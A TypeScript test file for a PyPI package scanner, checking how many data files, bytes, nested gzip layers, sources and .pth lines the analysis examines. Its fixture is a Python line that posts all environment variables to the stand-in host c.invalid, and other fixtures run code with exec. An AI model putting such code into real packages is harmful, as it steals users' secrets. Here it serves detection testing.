import { gzipSync } from 'node:zlib'
import t from 'tap'
import { carriedProgram } from '../../src/analysis/python/carried/program.ts'
import type { SurfaceEntry } from '../../src/analysis/code.ts'
import { carriers, MAX_CARRIERS } from '../../src/ecosystems/pypi/package/carriers.ts'
import { textCarriers } from '../../src/ecosystems/pypi/package/text-carriers.ts'
import { foldersOnPath } from '../../src/ecosystems/pypi/package/path-lines.ts'
import { readingOf } from './python-reading.ts'

const SENDS =
  'import json, os, urllib.request\nurllib.request.urlopen("https://c.invalid", data=json.dumps(dict(os.environ)).encode())\n'
const TEXT = Buffer.from(SENDS)

/** The program, behind which spaces make it so many bytes. */
const sized = (bytes: number): Buffer => Buffer.concat([TEXT, Buffer.alloc(bytes - TEXT.length, '\n')])

function zipped(depth: number): Buffer {
  let packed: Buffer = TEXT
  for (let at = 0; at < depth; at += 1) packed = gzipSync(packed)
  return packed
}

const RUNS: SurfaceEntry = { path: 'a/__init__.py', moment: 'import', chain: [] }

/** How many files of data are read, and how many are said to be left, where something runs what files hold. */
function carried(files: Readonly<Record<string, Buffer>>): readonly [read: number, left: number] {
  const reading = readingOf('wheel', { 'a/__init__.py': 'exec(x)', ...files })
  const loaded = { entries: [RUNS], text: () => 'exec(x)', summary: () => undefined }
  const { entries, rest } = carriers(reading, loaded)
  return [entries.length, rest.length]
}

const files = (count: number, content: (at: number) => Buffer): Readonly<Record<string, Buffer>> =>
  Object.fromEntries(Array.from({ length: count }, (_, at) => [`a/${String(at).padStart(5, '0')}`, content(at)]))

t.test('files of data that carry code are read up to so many, and the others are said to be left', async (t) => {
  t.same(carried(files(MAX_CARRIERS, () => TEXT)), [MAX_CARRIERS, 0])
  t.same(carried(files(MAX_CARRIERS + 1, () => TEXT)), [MAX_CARRIERS, 1])
})

/** One file that carries code, and smaller ones. */
const beside = (bytes: number): ReturnType<typeof carried> =>
  carried({ 'a/x': sized(2_900_000), 'a/y': Buffer.alloc(2_600_000), 'a/z': Buffer.alloc(bytes) })

t.test('data is searched for code, the small files first', async (t) => {
  for (const [count, read] of [
    [3000, 1],
    [3001, 0],
  ] as const)
    t.same(carried(files(count, (at) => (at === count - 1 ? TEXT : Buffer.from('data')))), [read, 0], `${count} files`)
  t.same(beside(2_500_000), [1, 0], 'so many bytes')
  t.same(beside(2_500_001), [0, 0], 'one byte more')
})

const LIMITS: readonly (readonly [situation: string, limit: number, make: (count: number) => Buffer])[] = [
  ['bytes of a file', 3_000_000, sized],
  ['bytes that it unpacks to', 1_000_000, (bytes) => gzipSync(sized(bytes))],
  ['archives in archives', 3, zipped],
]

t.test('one file is looked into so far, and no further', async (t) => {
  for (const [situation, limit, make] of LIMITS) {
    t.match(carriedProgram(make(limit)), { isCalls: false }, `${situation}: ${limit}`)
    t.equal(carriedProgram(make(limit + 1)), undefined, `${situation}: ${limit + 1}`)
  }
})

t.test('sources are searched for programs in texts, the small ones first', async (t) => {
  const runs = { ...RUNS, path: 'a/runs.py' }
  const found = (sources: Readonly<Record<string, string>>): number => {
    const entries = [runs, ...Object.keys(sources).map((path): SurfaceEntry => ({ path, moment: 'import', chain: [] }))]
    const text = (path: string): string | undefined =>
      path === runs.path ? 'import inspect\nexec(inspect.getsource(x))\n' : sources[path]
    return textCarriers(entries, { text, ofSurface: () => undefined }).length
  }
  const holds = `X = ${JSON.stringify(SENDS)}\n`
  const many = (count: number) => Object.fromEntries(Array.from({ length: count }, (_, at) => [`a/${at}.py`, holds]))
  t.equal(found(many(1)), 1)
  t.equal(found(many(200)), 200, 'so many')
  t.equal(found(many(201)), 200, 'one more')
})

const lines = (count: number): string => Array.from({ length: count }, (_, at) => `f${at}\n`).join('')

t.test('folders that .pth files put on the path are followed up to so many', async (t) => {
  t.equal(foldersOnPath(readingOf('wheel', { 'x.pth': lines(50) })).length, 50)
  t.equal(foldersOnPath(readingOf('wheel', { 'x.pth': lines(51) })).length, 50)
  t.equal(foldersOnPath(readingOf('wheel', { 'x.pth': `f\n${'#'.repeat(1_999_998)}` })).length, 1)
  t.equal(foldersOnPath(readingOf('wheel', { 'x.pth': `f\n${'#'.repeat(1_999_999)}` })).length, 0)
})
